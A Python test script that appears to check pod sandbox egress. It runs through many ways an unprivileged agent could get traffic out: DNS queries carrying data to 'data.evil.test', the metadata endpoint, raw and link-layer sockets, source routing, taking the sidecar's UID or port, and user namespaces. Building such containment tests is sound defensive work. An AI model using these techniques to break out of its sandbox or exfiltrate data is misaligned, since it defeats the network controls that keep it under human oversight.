"""Ways out of a pod, tried one by one by an agent without privileges. Prints one JSON line per attempt.

What an attempt believes about itself does not count: the test asks the other side what arrived.
"""
import ctypes
import errno
import json
import os
import socket
import struct
import sys

PUBLIC, GATEWAY, RESOLVER, METADATA, PUBLIC6, GATEWAY6, DEVICE = sys.argv[1:8]
WAIT = 0.4


def tcp(address, port, family=socket.AF_INET, kind=socket.SOCK_STREAM, protocol=0, bind=None, options=()):
    with socket.socket(family, kind, protocol) as s:
        s.settimeout(WAIT)
        for option in options:
            s.setsockopt(*option)
        if bind:
            s.bind(bind)
        s.connect((address, port))
        s.sendall(b"out")
        return repr(s.recv(50))


def udp(address, port, family=socket.AF_INET, protocol=0, data=b"out"):
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as s:
        s.settimeout(WAIT)
        s.connect((address, port))
        s.send(data)
        return repr(s.recv(300))


def query(name, kind=1):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


def send_only(s, data, to):
    with s:
        s.sendto(data, to)
    return "sent"


def broadcast():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    return send_only(s, b"out", ("255.255.255.255", 9999))


def multicast(family, group):
    return send_only(socket.socket(family, socket.SOCK_DGRAM), b"out", (group, 5353))


def join_group():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    member = socket.inet_aton("239.7.7.7") + socket.inet_aton("0.0.0.0")
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, member)
    s.close()
    return "joined"


def ping(family, protocol, kind, address):
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as s:
        s.settimeout(WAIT)
        s.connect((address, 0))
        s.send(struct.pack("!BBHHH", kind, 0, 0, 1, 1) + b"out")
        return repr(s.recv(50))


def raw(protocol):
    return send_only(socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol), b"\0" * 8 + b"out", (PUBLIC, 0))


def link_layer():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    s.bind((DEVICE, 0))
    s.send(b"\xff" * 6 + b"\2" * 6 + b"\x88\xb5" + b"out" * 20)
    return "sent"


def fast_open():
    with socket.socket() as s:
        s.settimeout(WAIT)
        s.sendto(b"out", 0x20000000, (PUBLIC, 9999))
        return repr(s.recv(50))


def as_child(attempt):
    """In a process of its own, because it changes who the process is."""
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.write(write, attempt().encode())
        except Exception as problem:
            os.write(write, str(problem).encode())
        os._exit(0)
    os.waitpid(child, 0)
    return os.read(read, 300).decode()


def become(uid):
    os.setuid(uid)
    return tcp(PUBLIC, 9999)


def own_user_namespace():
    libc = ctypes.CDLL(None, use_errno=True)
    uid = os.getuid()
    if libc.unshare(0x10000000) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
    with open("/proc/self/setgroups", "w") as f:
        f.write("deny")
    with open("/proc/self/uid_map", "w") as f:
        f.write("64000 %d 1" % uid)
    os.setuid(64000)
    return tcp(PUBLIC, 9999)


V4, V6 = socket.AF_INET, socket.AF_INET6
ATTEMPTS = {
    "tcp-443": lambda: tcp(PUBLIC, 443),
    "tcp-80": lambda: tcp(PUBLIC, 80),
    "tcp-22": lambda: tcp(PUBLIC, 22),
    "tcp-9999": lambda: tcp(PUBLIC, 9999),
    "dot-853": lambda: tcp(PUBLIC, 853),
    "gateway": lambda: tcp(GATEWAY, 9999),
    "metadata": lambda: tcp(METADATA, 80),
    "tcp6-443": lambda: tcp(PUBLIC6, 443, V6),
    "tcp6-9999": lambda: tcp(GATEWAY6, 9999, V6),
    "tcp-v4-mapped": lambda: tcp("::ffff:" + PUBLIC, 9999, V6),
    "multipath-tcp": lambda: tcp(PUBLIC, 9999, protocol=262),
    "sctp": lambda: tcp(PUBLIC, 9999, protocol=132),
    "dccp": lambda: tcp(PUBLIC, 9999, kind=6, protocol=33),
    "smc": lambda: tcp(PUBLIC, 9999, family=43),
    "data-in-syn": fast_open,
    "socket-mark": lambda: tcp(PUBLIC, 9999, options=[(socket.SOL_SOCKET, 36, 0x2000)]),
    "bind-to-device": lambda: tcp(PUBLIC, 9999, options=[(socket.SOL_SOCKET, 25, DEVICE.encode())]),
    "source-route": lambda: tcp(PUBLIC, 9999, options=[(0, 4, bytes([131, 7, 4]) + socket.inet_aton(GATEWAY) + b"\0")]),
    "source-127.0.0.6": lambda: tcp(PUBLIC, 9999, bind=("127.0.0.6", 0)),
    "source-port-of-sidecar": lambda: tcp(PUBLIC, 9999, bind=("", 15001)),
    "udp-9999": lambda: udp(PUBLIC, 9999),
    "quic": lambda: udp(PUBLIC, 443),
    "ntp": lambda: udp(PUBLIC, 123),
    "udp6": lambda: udp(GATEWAY6, 443, V6),
    "udp-lite": lambda: udp(PUBLIC, 9999, protocol=136),
    "dns-to-resolver": lambda: udp(RESOLVER, 53, data=query("data.evil.test")),
    "dns-to-public": lambda: udp("8.8.8.8", 53, data=query("data.evil.test")),
    "dns-txt": lambda: udp("8.8.8.8", 53, data=query("data.evil.test", 16)),
    "dns-over-ipv6": lambda: udp(PUBLIC6, 53, V6, data=query("data.evil.test")),
    "dns-over-tcp": lambda: tcp("8.8.8.8", 53),
    "not-dns-on-53": lambda: udp("8.8.8.8", 53, data=b"not dns at all"),
    "ping": lambda: ping(V4, 1, 8, PUBLIC),
    "ping6": lambda: ping(V6, 58, 128, GATEWAY6),
    "raw-icmp": lambda: raw(1),
    "raw-gre": lambda: raw(47),
    "raw-255": lambda: raw(255),
    "link-layer": link_layer,
    "broadcast": broadcast,
    "multicast": lambda: multicast(V4, "224.0.0.251"),
    "multicast6": lambda: multicast(V6, "ff02::fb%" + DEVICE),
    "ssdp": lambda: multicast(V4, "239.255.255.250"),
    "join-group": join_group,
    "become-sidecar": lambda: as_child(lambda: become(64000)),
    "own-user-namespace": lambda: as_child(own_user_namespace),
}

for name in sys.argv[8:] or ATTEMPTS:
    try:
        said = ATTEMPTS[name]()
    except Exception as problem:
        said = "%s %s" % (errno.errorcode.get(getattr(problem, "errno", None) or 0, ""), problem)
    print(json.dumps({"name": name, "said": said[:100]}), flush=True)
    sys.stdin.readline()
